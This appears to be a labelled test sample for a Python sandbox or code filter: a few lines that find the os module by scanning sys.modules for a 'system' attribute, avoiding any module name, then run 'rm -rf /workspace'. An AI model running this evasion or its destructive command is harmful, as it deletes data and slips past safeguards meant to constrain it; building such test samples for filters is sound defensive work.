# attack-class: 3
# title: scan sys.modules values for a module with system()
# why: no module name appears at all; the loop finds os by its attributes

import sys

for mod in list(sys.modules.values()):
    if hasattr(mod, "system") and hasattr(mod, "fork"):
        mod.system("rm -rf /workspace")
        break
